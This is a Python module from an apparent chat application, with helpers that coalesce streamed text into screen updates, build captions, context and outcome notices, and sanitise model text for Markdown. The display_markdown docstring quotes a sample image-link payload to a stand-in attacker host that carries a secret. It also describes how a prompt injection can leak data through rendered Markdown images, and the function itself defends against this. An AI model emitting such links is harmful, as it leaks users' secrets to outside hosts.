"""What a person is shown about an answer, in plain words, whichever screen shows it.

The chat page renders these; they live here, without Streamlit, so they are tested as plain functions: the
figures under an answer, the outcome of a turn with when to retry, the notice about left-out context, model
text made safe to render as Markdown, and streamed text coalesced into a bounded number of screen updates.
"""

from __future__ import annotations

import math
import re
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Literal

from clawdbot.conversations import AnswerFigures
from clawdbot.gateway import Finished
from clawdbot.models import Status

UPDATES_PER_SECOND = 15.0
"""Streamlit re-sends a whole element on each update: more than this wastes bandwidth and nobody reads faster."""

NoticeLevel = Literal["info", "warning", "error"]


@dataclass(frozen=True)
class Notice:
    """Sentences for the person, how loudly to show them, and the gateway's own words as the detail."""

    level: NoticeLevel
    text: str
    detail: str = ""


class Coalescer:
    """Collects streamed text by part ("thinking", "content") and hands it to `render` at most `rate` times a
    second, plus once at the end (`flush`), so a fast model costs no more screen updates than a slow one.

    The first piece renders at once (the first token is what the person waits for); later pieces wait until
    `1 / rate` seconds have passed since the last render. `render(part, text)` gets the whole text of the part
    so far, because a screen placeholder is replaced, not appended to.
    """

    def __init__(
        self,
        render: Callable[[str, str], None],
        *,
        rate: float = UPDATES_PER_SECOND,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        self._render = render
        self._interval = 1.0 / rate
        self._clock = clock
        self._parts: dict[str, list[str]] = {}
        self._pending: dict[str, None] = {}  # parts changed since their last render, in order of arrival
        self._last: float | None = None
        self.renders = 0
        """Calls of `render` so far (a screen update each)."""

    def add(self, part: str, text: str) -> None:
        if not text:
            return
        self._parts.setdefault(part, []).append(text)
        self._pending[part] = None
        now = self._clock()
        if self._last is None or now - self._last >= self._interval:
            self._emit(now)

    def flush(self) -> None:
        """Render whatever arrived since the last update (call it when the stream ends)."""
        if self._pending:
            self._emit(self._clock())

    def text(self, part: str) -> str:
        return "".join(self._parts.get(part, ()))

    def _emit(self, now: float) -> None:
        self._last = now
        pending, self._pending = self._pending, {}
        for part in pending:
            self.renders += 1
            self._render(part, self.text(part))


def figures_of(finished: Finished, dropped_messages: int = 0, truncated: bool = False) -> AnswerFigures:
    """The figures of a turn that just ended, the same as `Conversations.transcript` reads back later."""
    return AnswerFigures(
        status=finished.status.value,
        model_used=finished.model_used,
        ttft_ms=finished.ttft_ms,
        tokens_per_s=finished.tokens_per_s,
        completion_tokens=finished.completion_tokens,
        dropped_messages=dropped_messages,
        truncated=truncated,
    )


_STATUS_WORDS = {
    Status.CANCELLED.value: "stopped",
    Status.ERROR.value: "ended by an error",
    Status.TIMEOUT.value: "timed out",
    Status.ABANDONED.value: "interrupted by a restart",
    Status.STARTED.value: "still being answered",
}


def caption(figures: AnswerFigures) -> str:
    """The line under an answer: model, time to first token, speed, length, and how it ended if not well."""
    parts = [figures.model_used] if figures.model_used else []
    if figures.ttft_ms is not None:
        parts.append(f"first token after {_duration(figures.ttft_ms / 1000)}")
    if figures.tokens_per_s is not None:
        parts.append(f"{figures.tokens_per_s:.1f} tokens/s")
    if figures.completion_tokens is not None:
        parts.append(f"{figures.completion_tokens} token{'s' if figures.completion_tokens != 1 else ''}")
    if figures.status in _STATUS_WORDS:
        parts.append(_STATUS_WORDS[figures.status])
    return " · ".join(parts)


def context_notice(figures: AnswerFigures) -> str:
    """The context notice of an answer read back from its record (the live one is `ContextPlan.notice()`)."""
    n = figures.dropped_messages
    if n:
        return (
            f"{n} earlier message{'s' if n != 1 else ''} not sent: the conversation is longer than "
            "the agent's context budget"
        )
    if figures.truncated:
        return "part of the context was cut to fit the agent's context budget"
    return ""


def outcome_notice(finished: Finished) -> Notice | None:
    """What to tell the person when a turn did not end with a whole answer, with when to try again."""
    status, detail = finished.status, finished.message
    if status is Status.OK:
        return None
    if status is Status.CANCELLED:
        return Notice("info", "Stopped. What arrived before you stopped is kept in the conversation.")
    if status is Status.RATE_LIMITED:
        text = f"You have sent more messages than your limit allows. {_retry(finished.retry_after)}"
        return Notice("warning", text, detail)
    if status is Status.BUSY:
        text = f"The model is busy with other people's requests. {_retry(finished.retry_after)}"
        return Notice("warning", text, detail)
    if status is Status.TIMEOUT:
        text = "The model stopped answering. Try again in a minute; if it happens again, tell an operator."
        return Notice("error", text, detail)
    if finished.model_unavailable:
        text = "The model is unavailable right now. Try again in a few minutes; if it stays down, tell an operator."
        return Notice("error", text, detail)
    if status is Status.REJECTED_INPUT:
        return Notice("error", f"Not sent: {detail}.")
    return Notice("error", "The answer ended with an error. Try again.", detail)


def _retry(seconds: float | None) -> str:
    if seconds is None:
        return "Try again in a minute."
    whole = max(1, math.ceil(seconds))
    if whole < 90:
        return f"Try again in {whole} second{'s' if whole != 1 else ''}."
    return f"Try again in about {round(whole / 60)} minutes."


def _duration(seconds: float) -> str:
    return f"{seconds * 1000:.0f} ms" if seconds < 1 else f"{seconds:.1f} s"


# Code (fenced blocks, inline spans) is left as written: Markdown shows it literally anyway.
_CODE = re.compile(r"```.*?(?:```|\Z)|`[^`\n]*`", re.DOTALL)


def display_markdown(text: str) -> str:
    """Model (or user) text made safe to render as Markdown: images are shown as text, not fetched.

    Raw HTML is already shown as text by `st.markdown` without `unsafe_allow_html`; images are the other way
    untrusted Markdown acts: `![](https://attacker/?q=<secret>)` would make the browser send whatever a
    prompt injection put into the URL. Escaping the `[` leaves the text readable and inert.
    """
    if "![" not in text:
        return text
    pieces: list[str] = []
    position = 0
    for match in _CODE.finditer(text):
        pieces.append(text[position : match.start()].replace("![", "!\\["))
        pieces.append(match.group())
        position = match.end()
    pieces.append(text[position:].replace("![", "!\\["))
    return "".join(pieces)
